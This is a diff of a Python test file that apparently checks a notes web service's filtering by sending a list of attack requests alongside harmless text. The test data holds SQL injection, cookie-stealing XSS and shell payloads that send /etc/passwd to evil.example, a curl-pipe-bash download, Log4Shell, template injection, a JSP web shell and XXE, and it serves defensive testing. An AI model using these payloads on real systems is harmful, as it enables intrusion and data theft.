@@ -49,6 +49,7 @@ def password_change(kind: str, password: str) -> Sent:
 
 
 UNION = "1' UNION SELECT name, password_hash FROM accounts--"
+SLEEP = "1 AND (SELECT 1 FROM pg_sleep(5))"
 SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
 SHELL = "; cat /etc/passwd | nc evil.example 4444"
 LOG4J = "${jndi:ldap://evil.example/a}"
@@ -65,7 +66,7 @@ ATTACKS = [
     note("SQL in JSON", title="x'; DROP TABLE notes; --"),
     note("SQL in JSON", title="' OR SLEEP(5)#"),
     get("SQL in the query", f"/notes?after={quote(UNION)}"),
-    get("SQL in the query", f"/notes?limit={quote('1 AND (SELECT 1 FROM pg_sleep(5))')}"),
+    get("SQL in the query", f"/notes?limit={quote(SLEEP)}"),
     form("SQL in a form", "/auth/token", grant_type="password", username="admin' OR '1'='1'-- ", password="x"),
     form("SQL in a form", "/auth/token", grant_type="' OR 1=1 UNION SELECT NULL--", username="a", password="x"),
     get("SQL in a cookie", "/notes", Cookie=f"session={quote(UNION)}"),
@@ -77,7 +78,10 @@ ATTACKS = [
     note("shell in JSON", title="$(curl -s https://evil.example/x.sh | bash)"),
     get("shell in the query", f"/notes?after={quote(SHELL)}"),
     get("Shellshock", "/notes", User_Agent="() { :;}; /bin/bash -c 'cat /etc/passwd'"),
-    note("template injection", title="{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
+    note(
+        "template injection",
+        title="{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+    ),
     note("Log4Shell in JSON", title=LOG4J),
     get("Log4Shell in the query", f"/notes?after={quote(LOG4J)}"),
     get("Log4Shell in a header", "/notes", User_Agent=LOG4J),
@@ -94,8 +98,14 @@ ATTACKS = [
     get("foreign application", "/actuator/heapdump"),
     get("scanner", "/notes", User_Agent="sqlmap/1.8 (https://sqlmap.org)"),
     Sent("method", "TRACE", "/notes"),
-    Sent("method", "PUT", "/notes/shell.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
-    Sent("XML entity", "POST", "/notes", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', {"Content-Type": "application/xml"}),
+    Sent("method", "PUT", "/notes/shell.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
+    Sent(
+        "XML entity",
+        "POST",
+        "/notes",
+        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+        {"Content-Type": "application/xml"},
+    ),
     get("response splitting", "/notes?after=x%0d%0aSet-Cookie:%20session=evil"),
 ]
 
@@ -119,12 +129,12 @@ PROSE = [
     "Drop the table in the hall; insert the legs first -- they are marked.",
     "If x > 3 and y < 5 or z = 1, then update the set where it fails.",
     "Union meeting: select all delegates from the list of members.",
-    "<b>Important</b>: see <a href=\"https://example.com\">the page</a>.",
+    '<b>Important</b>: see <a href="https://example.com">the page</a>.',
     "Run `curl https://example.com/install.sh | sh` on the new server.",
     "The script is in /etc/cron.d; cat /etc/hosts first.",
     "SELECT id FROM orders WHERE total > 100 ORDER BY created_at;",
     "def main():\n    import os\n    os.system('ls -la')\n",
-    "<script src=\"/static/app.js\"></script> goes before </body>.",
+    '<script src="/static/app.js"></script> goes before </body>.',
     "She said: \"it's 5 o'clock\" -- and left; the end.",
     "ping 192.0.2.1 && echo up || echo down",
     "1. Milk\n2. Bread\n3. Eggs\n\n* * *\n# Next week #",
@@ -140,13 +150,13 @@ TITLES = [
     "Is 1=1?",
     "Q3: plan (draft)",
     "50% off",
-    "Café Müller – 5 o'clock",
+    "Café Müller, 5 o'clock",
     "To do: call Anna, buy milk",
     "Re: Re: offer #1234",
     "東京 trip",
     "e-mail: bob@example.com",
     "https://example.com/a?b=c",
-    "\"Quoted\" title",
+    '"Quoted" title',
     "Budget 2027/28",
     "Ideas & questions",
     "Select committee",
@@ -165,7 +175,7 @@ REFUSED_BY_THE_APP = [
 
 def harmless() -> list[Sent]:
     """Requests that the app accepts from a caller with the right credentials, or refuses for their content alone."""
-    chance = random.Random(1)
+    chance = random.Random(1)  # noqa: S311  # the same requests in each run
     letters = string.ascii_letters + string.digits + string.punctuation
     generated = ["".join(chance.choices(letters, k=20)) for _ in range(100)]
     tokens = [base64.urlsafe_b64encode(chance.randbytes(48)).decode().rstrip("=") for _ in range(40)]
@@ -187,8 +197,19 @@ def harmless() -> list[Sent]:
         *(get("path", one) for one in (NOTE, "/users/me", "/auth/sessions", "/users?limit=50", "/health/ready")),
         *(Sent("method", "DELETE", one) for one in (NOTE, f"/auth/sessions/{NOTE[7:]}")),
         Sent("method", "POST", "/auth/logout"),
-        Sent("method", "PATCH", NOTE, b'{"title": null, "body": "x"}', {"Content-Type": "application/json; charset=utf-8"}),
-        Sent("preflight", "OPTIONS", "/notes", headers={"Origin": "https://app.example.com", "Access-Control-Request-Method": "POST"}),
+        Sent(
+            "method",
+            "PATCH",
+            NOTE,
+            b'{"title": null, "body": "x"}',
+            {"Content-Type": "application/json; charset=utf-8"},
+        ),
+        Sent(
+            "preflight",
+            "OPTIONS",
+            "/notes",
+            headers={"Origin": "https://app.example.com", "Access-Control-Request-Method": "POST"},
+        ),
         note("empty text", body=""),
         note("long text", body="word " * 1_900),
     ]
